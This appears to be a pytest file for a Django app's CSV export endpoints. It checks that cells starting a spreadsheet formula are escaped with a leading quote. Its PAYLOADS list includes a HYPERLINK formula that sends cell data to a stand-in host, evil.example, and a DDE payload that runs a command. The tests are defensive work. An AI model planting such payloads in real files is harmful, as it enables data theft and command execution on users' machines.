"""A text cell that a spreadsheet would evaluate reaches staff as plain text in every export."""

import csv
import io

import pytest

from tests.companies.factories import CompanyFactory
from tests.ideas.factories import IdeaFactory
from tests.matching.factories import InterestFactory, MatchFactory
from tests.pilots.factories import PilotFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _rows(api, staff_user, name):
    response = api(staff_user).get(f"/api/v1/exports/{name}.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _cells(rows):
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_ideas_export_quotes_a_title_text_and_author_that_start_a_formula(api, staff_user, payload):
    idea = IdeaFactory(
        title=payload + " 복약 알림",
        problem=payload + " 약 먹는 시간을 자꾸 잊어요.",
        proposal=payload + " 시간 맞춰 알려 주면 좋겠어요.",
        author__display_name="=1+2",
    )

    rows = _rows(api, staff_user, "ideas")

    assert rows[1][0] == str(idea.pk)  # the id stays a number
    assert rows[1][1] == "'" + payload + " 복약 알림"
    assert rows[1][2] == "'" + payload + " 약 먹는 시간을 자꾸 잊어요."
    assert rows[1][3] == "'" + payload + " 시간 맞춰 알려 주면 좋겠어요."
    assert rows[1][9].startswith("'=")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in _cells(rows))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_matches_export_quotes_an_idea_title_company_name_and_reason(api, staff_user, payload):
    MatchFactory(
        idea=IdeaFactory(title=payload + " 아이디어"),
        company=CompanyFactory(name=payload + " 회사", slug="evil-co"),
        reason={"idea_text": payload, "company_text": "IoT", "similarity": 0.5, "also": []},
        score=-0.25,
    )

    rows = _rows(api, staff_user, "matches")

    assert rows[1][1] == "'" + payload + " 아이디어"
    assert rows[1][3] == "'" + payload + " 회사"
    assert rows[1][7] == "-0.25"  # a number stays a number, sign included
    assert rows[1][9].startswith("'" + payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_interests_export_quotes_a_proposal_message_and_company_name(api, staff_user, payload):
    InterestFactory(
        idea=IdeaFactory(title="복약 알림"),
        company=CompanyFactory(name=payload + " 회사", slug="evil-co"),
        proposal_plan=payload + " 계획",
        proposal_data_needed=payload + " 데이터",
        message=payload,
    )

    rows = _rows(api, staff_user, "interests")

    assert rows[1][1] == "복약 알림"  # ordinary text is untouched
    assert rows[1][2] == "'" + payload + " 회사"
    assert rows[1][3] == "'" + payload + " 계획"
    assert rows[1][4] == "'" + payload + " 데이터"
    assert rows[1][6] == "'" + payload
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in _cells(rows))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_pilots_export_quotes_a_venue_title_idea_and_company(api, staff_user, payload):
    pilot = PilotFactory(
        title=payload + " 실증",
        title_en=payload + " pilot",
        venue=payload,
        venue_en=payload + " venue",
        idea=IdeaFactory(title=payload + " 아이디어"),
        companies=[CompanyFactory(name=payload + " 회사", slug="evil-co")],
    )

    rows = _rows(api, staff_user, "pilots")

    assert rows[1][0] == str(pilot.pk)
    assert rows[1][1] == "'" + payload + " 실증"
    assert rows[1][2] == "'" + payload + " pilot"
    assert rows[1][4] == "'" + payload + " 아이디어"
    assert rows[1][5] == "'" + payload + " 회사"
    assert rows[1][8] == "'" + payload
    assert rows[1][9] == "'" + payload + " venue"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in _cells(rows))
